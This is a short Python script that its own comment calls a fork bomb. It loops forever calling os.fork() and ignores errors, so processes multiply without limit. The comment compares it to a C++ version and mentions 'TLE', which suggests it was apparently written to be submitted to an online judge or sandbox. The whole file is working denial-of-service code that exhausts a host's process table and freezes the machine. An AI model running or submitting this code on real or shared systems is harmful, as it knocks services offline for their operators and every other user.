# A fork bomb in Python: every process forks forever. Same fate as the C++ one: TLE, and nothing left after.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
